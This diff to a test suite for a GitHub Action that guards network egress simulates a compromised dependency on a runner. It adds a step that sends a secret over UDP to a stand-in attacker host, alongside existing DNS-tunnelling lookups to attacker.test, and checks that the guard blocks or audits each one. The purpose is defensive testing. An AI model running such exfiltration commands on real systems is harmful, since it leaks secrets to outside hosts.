@@ -21,6 +21,7 @@ interface StepResults {
   preinstall: Awaited<ReturnType<SimulatedRunner['step']>>;
   dnsViaResolver: Awaited<ReturnType<SimulatedRunner['step']>>;
   dnsDirect: Awaited<ReturnType<SimulatedRunner['step']>>;
+  udp: Awaited<ReturnType<SimulatedRunner['step']>>;
 }
 
 /** The job's steps: an allowed download, then what a compromised dependency tries. */
@@ -34,6 +35,14 @@ async function jobSteps(runner: SimulatedRunner, world: World, job: Job): Promis
     preinstall: await runner.step(process.execPath, ['-e', preinstall], { env: { ...job.env, CA: world.caFile } }),
     dnsViaResolver: await runner.step('dig', ['+tries=1', '+time=3', `${SECRET}.exfil.attacker.test`], { env: job.env }),
     dnsDirect: await runner.step('dig', ['+tries=1', '+time=3', `@${NET.dns}`, `${SECRET}.direct.attacker.test`], { env: job.env }),
+    // UDP but DNS (QUIC-like) is not proxied: the rules refuse it in block mode, and ulogd makes it an event.
+    udp: await runner.step(
+      process.execPath,
+      ['-e', `const s = require('dgram').createSocket('udp4'); s.send('${SECRET}', 9999, '${NET.attacker}', () => setTimeout(() => s.close(), 300));`],
+      {
+        env: job.env,
+      },
+    ),
   };
 }
 
@@ -100,6 +109,7 @@ describe('GitHub Action on a simulated GitHub-hosted runner', { timeout: 600_000
       assert.match(post.stdout, annotation('error', 'blocked', 'attacker\\.test:53'));
       assert.match(post.stdout, annotation('error', 'blocked', `${escapeRegExp(NET.rawOnly)}:443`));
       assert.match(post.stdout, annotation('error', 'blocked', `${SECRET.toLowerCase()}\\.exfil\\.attacker\\.test:53`));
+      assert.match(post.stdout, annotation('error', 'blocked', `${escapeRegExp(NET.attacker)}:9999`), 'no event for the UDP datagram (ulogd)');
       assert.doesNotMatch(post.stdout, /^::(error|warning) title=egress-guard [a-z-]+%3A allowed\.test/m);
       const blockedCount = Number(outputs(job).get('blocked-count'));
       assert.ok(blockedCount >= 3, `blocked-count ${blockedCount}`);
@@ -123,13 +133,24 @@ describe('GitHub Action on a simulated GitHub-hosted runner', { timeout: 600_000
       const job = runner.newJob('audit', { 'egress-policy': 'audit', 'allowed-endpoints': ALLOWED, 'trusted-ranges': TRUSTED });
       const main = await runner.runAction(job, 'main');
       assert.equal(main.code, 0, `main failed:\n${main.stdout}\n${main.stderr}`);
+      const since = Date.now();
       const steps = await jobSteps(runner, world, job);
       for (const [name, result] of Object.entries(steps)) assert.equal(result.code, 0, `${name} broke in audit mode: ${result.stdout}${result.stderr}`);
       assert.match(steps.attackerName.stdout, /hello from attacker\.test/);
       assert.match(steps.dnsViaResolver.stdout, /status: NOERROR/);
       const post = await runner.runAction(job, 'post');
       assert.equal(post.code, 0, `post failed in audit mode:\n${post.stdout}`);
-      for (const destination of ['attacker.test:443', `${NET.rawOnly}:443`, `${SECRET.toLowerCase()}.exfil.attacker.test:53`, `${SECRET.toLowerCase()}.direct.attacker.test:53`]) {
+      assert.ok(
+        internetSince(world, since).some((e) => e.type === 'udp' && e.port === 9999),
+        'the UDP datagram did not arrive in audit mode',
+      );
+      for (const destination of [
+        'attacker.test:443',
+        `${NET.rawOnly}:443`,
+        `${NET.attacker}:9999`,
+        `${SECRET.toLowerCase()}.exfil.attacker.test:53`,
+        `${SECRET.toLowerCase()}.direct.attacker.test:53`,
+      ]) {
         assert.match(post.stdout, annotation('warning', 'would-block', escapeRegExp(destination)));
       }
       assert.doesNotMatch(post.stdout, /^::error/m);
